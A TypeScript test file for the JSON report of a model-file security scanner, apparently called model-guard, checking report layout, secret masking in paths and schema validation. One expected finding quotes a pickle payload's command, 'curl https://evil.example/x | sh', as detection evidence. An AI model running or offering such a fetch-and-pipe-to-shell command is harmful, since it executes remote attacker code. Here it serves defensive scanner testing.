import Ajv2020 from 'ajv/dist/2020.js';
import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { json } from '../../src/report/json.ts';
import schema from '../../schemas/report.schema.json' with { type: 'json' };
import { token } from '../inspect/secret/tokens.ts';
import { hostileReport, judged, read, realistic, reportOf } from './samples.ts';

const validate = new Ajv2020.default({ strict: true, allErrors: true }).compile(schema);

describe('json', () => {
  it('has the published shape, keys in order, absent values left out', () => {
    const location = { path: 'é##[.pt', members: ['a', 'b'], line: 1, column: 2, offset: 3, cell: 4 };
    const full = judged({
      location,
      moreOffsets: [5],
      because: 'why',
      owners: ['x', 'y'],
      sha256: 'b'.repeat(64),
    });
    const { coverage, notices, stats, reason } = realistic();
    const report = reportOf({ decision: 'block', reason, findings: [full], coverage, notices, stats });
    expect(json(report)).toBe(`{
  "schema": "model-guard/report@1",
  "decision": "block",
  "reason": "1 finding is CRITICAL, and CRITICAL blocks",
  "findings": [
    {
      "rule": "PICKLE-EXEC",
      "severity": "CRITICAL",
      "confidence": "HIGH",
      "surface": "pickle",
      "title": "Runs a command when loaded",
      "evidence": "calls os.system(\\"curl https://evil.example/x | sh\\") when loaded (REDUCE at byte 41)",
      "fix": "Do not load it. Ask its author for \`safetensors\` weights.",
      "path": "\\u00e9#\\u0023[.pt",
      "line": 1,
      "column": 2,
      "member": "a > b",
      "offset": 3,
      "moreOffsets": [
        5
      ],
      "cell": 4,
      "fingerprint": "${'a'.repeat(64)}",
      "sha256": "${'b'.repeat(64)}",
      "disposition": "block",
      "because": "why",
      "owner": "x, y",
      "owners": [
        "x",
        "y"
      ]
    }
  ],
  "coverage": {
    "inspected": 1,
    "artifacts": [
      {
        "path": "models/a.pt",
        "format": "torch-zip",
        "size": 4096,
        "status": "inspected"
      },
      {
        "path": "big.bin",
        "format": "git-lfs-pointer",
        "size": 132,
        "status": "not-inspected"
      }
    ],
    "incomplete": [
      {
        "path": "big.bin",
        "code": "not-fetched",
        "reason": "its LFS object was not fetched",
        "risk": "runs-code"
      }
    ]
  },
  "drift": [],
  "notices": [
    "exception 2 for PICKLE-EXEC expired on 2026-01-01"
  ],
  "stats": {
    "files": 3,
    "bytes": 5300000,
    "milliseconds": 1250
  }
}
`);
  });

  it('masks secrets in names, and keeps fingerprints', () => {
    const secret = token('huggingface-user');
    const location = { path: `runs/${secret}/cfg.env`, members: [`${secret}.txt`] };
    const coverage = [read({ locator: location }), read({ locator: { path: `${secret}.txt`, members: [] } })];
    const output = json(reportOf({ findings: [judged({ location })], coverage }));
    expect(output).not.toContain(secret.slice(6));
    expect(JSON.parse(output)).toMatchObject({
      findings: [{ path: `runs/${secret.slice(0, 6)}\u2026/cfg.env`, fingerprint: 'a'.repeat(64) }],
      coverage: { artifacts: [{}, { path: `${secret.slice(0, 6)}\u2026.txt` }] },
    });
  });

  it('is valid by its schema for any report', () => {
    fc.assert(
      fc.property(hostileReport, (report) => {
        validate(JSON.parse(json(report)));
        expect(validate.errors).toBeNull();
      }),
    );
    validate(JSON.parse(json(realistic())));
    expect(validate.errors).toBeNull();
  });

  it.each([
    ['an unknown key', { extra: 1 }],
    ['another version', { schema: 'model-guard/report@2' }],
    ['another decision', { decision: 'maybe' }],
    ['a missing part', { coverage: undefined }],
  ])('has a schema that refuses %s', (_, change) => {
    const parsed: object = JSON.parse(json(realistic()));
    expect(validate(JSON.parse(JSON.stringify({ ...parsed, ...change })))).toBe(false);
  });
});
